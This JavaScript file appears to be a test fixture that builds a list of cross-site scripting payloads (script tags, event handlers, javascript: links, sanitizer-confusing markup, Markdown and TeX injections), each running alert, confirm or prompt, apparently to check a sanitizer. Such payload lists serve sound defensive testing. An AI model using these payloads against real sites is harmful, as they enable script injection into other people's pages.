/**
 * Script injections of the classes that are known, each to run `alert`, `confirm` or `prompt` where a text is taken for
 * HTML, for an attribute, for an address, or for Markdown or TeX that becomes one of these. Written for this project.
 */

/** Ways to run something, also without parentheses, quotes or the name of what is called. */
const calls = ['alert(1)', 'confirm`1`', "top['pro'+'mpt'](1)"];

/** Where `§` stands, something is run. */
const contexts = [
  // Elements that run by themselves.
  '<script>§</script>',
  '<ScRiPt>§</sCrIpT>',
  '<script\n>§</script\n>',
  '<script/x>§</script>',
  '<<script>§//<</script>',
  '<scr<script>ipt>§</scr</script>ipt>',
  '<svg><script>§</script></svg>',
  '<script src="data:text/javascript,§"></script>',
  '<template><script>§</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=§>">',
  // Handlers that need nobody.
  '<img src=x onerror=§>',
  '<img src=x onerror="§"',
  '<IMG SRC=x OnErRoR=§>',
  '<img/src=x/onerror=§//',
  '<img src="x`" `onerror=§>',
  '<svg onload=§>',
  '<svg/onload=§>',
  '<svg><animate onbegin=§ attributeName=x dur=1s></svg>',
  '<body onload=§>',
  '<iframe onload=§></iframe>',
  '<iframe srcdoc="<img src=x onerror=§>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;§&lt;/script&gt;"></iframe>',
  '<input autofocus onfocus=§>',
  '<select autofocus onfocus=§></select>',
  '<details open ontoggle=§><summary>x</summary></details>',
  '<video onerror=§><source></video>',
  '<audio src=x onerror=§></audio>',
  '<object data="data:text/html,<script>§</script>"></object>',
  '<embed src="data:text/html,<script>§</script>">',
  '<marquee onstart=§>x</marquee>',
  '<math><mtext><img src=x onerror=§></mtext></math>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="§">x</p>',
  '<link rel=stylesheet href="data:text/css,*{}" onload=§>',
  '<meta http-equiv=refresh content="0;url=javascript:§">',
  '<base href="javascript:§//"><a href="x">x</a>',
  // Out of an attribute, a comment or another element.
  '"><img src=x onerror=§>',
  "'><img src=x onerror=§>",
  '" autofocus onfocus=§ x="',
  "' autofocus onfocus=§ x='",
  '--><img src=x onerror=§><!--',
  '</title><img src=x onerror=§>',
  '</textarea><img src=x onerror=§>',
  '</style><img src=x onerror=§>',
  '</script><script>§</script>',
  '`-§-`',
  '${§}',
  '{{constructor.constructor("§")()}}',
  // Addresses.
  '<a href="javascript:§">x</a>',
  '<a href=" jav&#x09;ascript:§">x</a>',
  '<a href="&#106;avascript&colon;§">x</a>',
  '<form action="javascript:§"><button>x</button></form>',
  '<button formaction="javascript:§">x</button>',
  '<svg><a xlink:href="javascript:§"><text y="9">x</text></a></svg>',
  '<math href="javascript:§">x</math>',
  // What a sanitizer reads in one way and a browser in another.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=§>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>',
  // Markdown.
  '[x](javascript:§)',
  '[x](<javascript:§>)',
  '[x](jav&#x61;script:§)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#§)',
  '![x](x"onerror="§)',
  '![x" onerror="§](x)',
  '<javascript:§>',
  '[x]: javascript:§\n\n[x]',
  '```"><img src=x onerror=§>\nx\n```',
  '[x](https://example.org "\\" onmouseover=§ \\"")',
  // TeX.
  '$\\href{javascript:§}{x}$',
  '$\\text{<img src=x onerror=§>}$',
  '$$\\class{x" onmouseover="§}{x}$$',
  '$\\html{<img src=x onerror=§>}$',
  '$\\style{x:expression(§)}{x}$',
  '$\\unicode{x3c}img src=x onerror=§>$'
];

export const injections = contexts.flatMap((context) => calls.map((call) => context.replace('§', () => call)));
